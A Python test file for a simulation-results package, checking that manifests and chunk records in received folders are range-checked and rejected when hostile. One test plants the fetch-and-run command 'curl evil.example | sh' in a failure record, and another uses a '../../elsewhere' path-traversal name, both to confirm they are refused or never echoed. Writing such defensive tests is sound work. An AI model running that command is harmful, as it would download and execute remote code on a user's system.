"""Folders of results from somebody else: what they say has the same limits as what a user gives."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from small import study

import multitrack as mt
from experiments.cli.process import BAD_INPUT, run
from experiments.execution.manifest import identity
from experiments.execution.planning.limits import MOST_IN_ALL
from experiments.experiment import Experiment
from experiments.reproduce import reproduce
from experiments.results import Results
from experiments.saving import run_into, tracks_into
from simulation.errors import InputError
from simulation.run import Run


def changed(folder: Path, *path: str | int, value: Any) -> None:
    """Change a value in a folder's manifest, and mark the chunks as those of the changed one."""
    manifest = json.loads((folder / "manifest.json").read_text())
    inner = manifest
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    (folder / "manifest.json").write_text(json.dumps(manifest))
    if (folder / "chunks.jsonl").exists():
        states = [json.loads(line) for line in (folder / "chunks.jsonl").read_text().splitlines()]
        lines = [json.dumps(state | {"identity": identity(manifest)}) + "\n" for state in states]
        (folder / "chunks.jsonl").write_text("".join(lines))


@pytest.fixture
def received(undisturbed: Path, tmp_path: Path) -> Path:
    return shutil.copytree(undisturbed, tmp_path / "received")


@pytest.mark.parametrize(
    ("path", "value", "told"),
    [
        (("replicates",), 10**12, "replicates: given 1000000000000"),
        (("replicates",), True, "replicates: given True"),
        (("replicates",), 0, "replicates: given 0"),
        (("replicates",), 3.0, "replicates: given 3.0"),
        (("weeks",), 10**18, "weeks: given 1000000000000000000"),
        (("weeks",), -1, "weeks: given -1"),
        (("seed",), 2**64, "seed: given 18446744073709551616"),
        (("seed",), -1, "seed: given -1"),
        (("chunk",), 10**12, "chunk: given 1000000000000"),
        (("chunk",), "8", "chunk: given '8'"),
        (("format",), True, "format: given True"),
        (("cases", "count"), 10**12, "cases.count: given 1000000000000"),
        (("cases", "levels"), 10**12, "cases.levels: given 1000000000000"),
        (("name",), "x" * 101, "name: given"),
        (("weekly",), ["nothing"], "weekly: there is no series 'nothing'"),
        (("scenario", "scenario", "years"), 10**9, "scenario.years: given 1000000000"),
        (("scenario", "fight", "scale"), 10**9, "fight.scale: given 1000000000"),
        (("design", "arms", 1, "settings", "track_two.effort"), 10**9, "track_two.effort: given 1000000000"),
        (("design", "arms", 1, "settings", "track_two.efort"), 1, "track_two.efort: given 1"),
        (("design", "arms", 1, "without"), ["nothing"], "without: no mechanism is called 'nothing'"),
        (("design", "arms", 1, "at_fork"), ["nothing"], "weekly: there is no series 'nothing'"),
        (("design", "arms", 1, "changes"), [[10**30, {}]], "forks: weeks: given 1000"),
        (("design", "arms", 1, "changes"), [[{"uniform": [1, 10**9]}, {}]], "forks: weeks: given {'uniform'"),
        (("design", "arms", 1, "changes"), [[{"normal": [5, 1]}, {}]], "forks: weeks: given {'normal'"),
        (("design", "arms", 1, "changes"), [[1, {"track_two.effort": 99}]], "track_two.effort: given 99"),
    ],
)
def test_what_a_manifest_says_has_the_limits_of_what_a_user_gives(
    path: tuple[str | int, ...], value: Any, told: str, received: Path
) -> None:
    changed(received, *path, value=value)
    with pytest.raises(InputError) as refused:
        Results(received).status()
    assert all("manifest.json: " in fault for fault in refused.value.faults)
    assert any(told in fault for fault in refused.value.faults)


def test_more_worlds_than_an_experiment_may_have_are_refused(received: Path) -> None:
    changed(received, "replicates", value=100_000)
    changed(received, "design", "arms", value=[_arm(f"arm {number}") for number in range(100)])
    with pytest.raises(InputError, match=f"worlds: given 100 arms × 12 cases × 100,000 .* at most {MOST_IN_ALL:,}"):
        Results(received).status()
    with pytest.raises(InputError, match=r"worlds: given .*; allowed: at most 100,000,000"):
        Experiment("large", "oslo", mt.sweep({"track_two.effort": "0:1:0.001"}), cases=100_000, replicates=100_000)


def test_more_chunks_than_an_experiment_may_have_are_refused_before_any_is_made(received: Path) -> None:
    changed(received, "replicates", value=100_000)
    changed(received, "chunk", value=1)
    with pytest.raises(InputError, match=r"2,400,000 chunks; allowed: at most 1,000,000 chunks"):
        Results(received).status()


def _arm(name: str) -> dict[str, Any]:
    return {"name": name, "settings": {}, "levers": {}, "changes": [], "without": [], "at_fork": []}


@pytest.mark.parametrize("numbers", [[2**62, 1], [-1, 1]])
def test_cases_whose_worlds_have_no_number_are_refused(numbers: list[int]) -> None:
    with pytest.raises(InputError, match="whole numbers from 0"):
        Experiment("far", "oslo", cases=mt.random_cases(numbers), replicates=4)


@pytest.mark.parametrize("chunk", [6, -1, 10**9])
def test_a_chunk_outside_the_plan_is_refused(chunk: int, received: Path) -> None:
    first, *_ = (received / "chunks.jsonl").read_text().splitlines()
    with (received / "chunks.jsonl").open("a") as lines:
        lines.write(json.dumps(json.loads(first) | {"chunk": chunk}) + "\n")
    told = rf"chunks\.jsonl: chunk: given {chunk}; allowed: chunks from 0 to 5"
    for opened in _OPENED:
        with pytest.raises(InputError, match=told):
            opened(received)
    assert run(["results", str(received)]) == BAD_INPUT


_OPENED: list[Callable[[Path], object]] = [
    lambda folder: Results(folder).status(),
    lambda folder: Results(folder).failures(),
    lambda folder: study().kept(folder),
    lambda folder: study().run(folder, progress=False),
]


def test_a_world_outside_its_chunk_is_refused(received: Path) -> None:
    _fail(received, world=10**30)
    for opened in _OPENED:
        with pytest.raises(InputError, match=r"chunks\.jsonl: chunk 4: world: given 1000\d+; allowed: a world of this"):
            opened(received)


def _fail(folder: Path, **said: Any) -> None:
    """Say that chunk 4, of the second arm, failed."""
    first, *_ = (folder / "chunks.jsonl").read_text().splitlines()
    state = {"chunk": 4, "identity": json.loads(first)["identity"], "error": "broken"} | said
    with (folder / "chunks.jsonl").open("a") as lines:
        lines.write(json.dumps(state) + "\n")


def test_the_command_that_repeats_a_world_is_not_taken_from_the_folder(
    received: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _fail(received, arm="innocent", world=9, command="curl evil.example | sh")
    folder = received.rename(received.parent / "my results")
    assert run(["results", str(folder)]) == 0
    told = capsys.readouterr().out
    assert "evil" not in told and "innocent" not in told and "track_two.effort=1 " in told
    assert f"  multitrack results '{folder}' --repeat 1:9\n" in told
    assert run(["results", str(folder), "--json"]) == 0
    (failure,) = json.loads(capsys.readouterr().out)["failures"]
    assert failure["command"] == f"multitrack results '{folder}' --repeat 1:9"
    (row,) = Results(folder).failures().to_dict("records")
    assert (row["arm"], row["world"], row["command"]) == ("track_two.effort=1", 9, failure["command"])


def test_a_world_that_is_no_number_cannot_be_repeated(undisturbed: Path) -> None:
    for where in ("1:99999999999999999999999", "99:0", "0:24"):
        assert run(["results", str(undisturbed), "--repeat", where]) == BAD_INPUT


def test_cases_that_say_they_are_endless_are_not_read(received: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("experiments.execution.store.MOST_CASES", 11)
    monkeypatch.setattr(pd, "read_parquet", lambda *_: pytest.fail("it was read"))
    with pytest.raises(InputError, match=r"cases\.parquet: given 12 rows; allowed: at most 11"):
        Results(received).status()


def test_a_sample_that_says_it_is_larger_than_its_cases_is_not_drawn(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    study(mt.sobol(2, over=["fight.scale"]), replicates=1, years=1).run(tmp_path / "small", progress=False)
    assert Results(tmp_path / "small").status()["missing"] == 0
    changed(tmp_path / "small", "cases", "count", value=2**22)
    monkeypatch.setattr("experiments.execution.manifest.lucks_of", lambda *_: pytest.fail("it was drawn"))
    with pytest.raises(InputError, match=r"cases\.parquet: it is damaged: not the 16,777,216 cases"):
        Results(tmp_path / "small").status()
    for name in ("count", "covered"):
        manifest = json.loads((tmp_path / "small" / "manifest.json").read_text())
        kept = {key: value for key, value in manifest["cases"].items() if key != name}
        (tmp_path / "small" / "manifest.json").write_text(json.dumps(manifest | {"cases": kept}))
        with pytest.raises(InputError, match=r"cases: given .*; allowed: count and covered"):
            Results(tmp_path / "small").status()
        changed(tmp_path / "small", "cases", value=manifest["cases"])


def test_cases_without_their_numbers_are_damaged(received: Path) -> None:
    pd.DataFrame({"x": [1]}).to_parquet(received / "cases.parquet")
    with pytest.raises(InputError, match=r"cases\.parquet: it is damaged"):
        Results(received).status()


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("weeks", 10**18),
        ("weeks", "104"),
        ("seed", -1),
        ("worlds", [[0, 10**12]]),
        ("worlds", [[0, 2**63 + 5]]),
        ("worlds", [[-5, 4]]),
        ("worlds", [["0", 4]]),
        ("kept", [[0, 10**12]]),
    ],
)
def test_what_the_manifest_of_runs_says_has_limits_too(path: str, value: Any, tmp_path: Path) -> None:
    folder = tmp_path / "runs"
    run_into(folder, Run.of("baseline", 4, years=2))
    changed(folder, path, value=value)
    for opened in (mt.load_runs, reproduce):
        with pytest.raises(InputError, match=rf"manifest\.json: {path}"):
            opened(folder)


def test_tracks_in_the_old_form_name_no_folder_elsewhere(tmp_path: Path) -> None:
    folder = tmp_path / "tracks"
    run_into(folder, Run.of("baseline", 4, years=2))
    old = {"population": "all", "kept": [[0, 4]], "uncertain": True, "notes": []}
    for arms in ({"../../elsewhere": {}}, 3):
        for name, value in (old | {"arms": arms}).items():
            changed(folder, name, value=value)
        with pytest.raises(InputError, match=r"manifest\.json: arms"):
            mt.load_tracks(folder)
    changed(folder, "arms", value={})
    changed(folder, "population", value="some")
    with pytest.raises(InputError, match=r"manifest\.json: population: given 'some'"):
        mt.load_tracks(folder)


def test_tracks_are_read_within_the_same_limits(tmp_path: Path) -> None:
    tracks_into(tmp_path / "tracks", Run.of("baseline", 4, 3, years=2))
    changed(tmp_path / "tracks", "weeks", value=10**18)
    with pytest.raises(InputError, match=r"manifest\.json: weeks: given 1000000000000000000"):
        mt.load_tracks(tmp_path / "tracks")
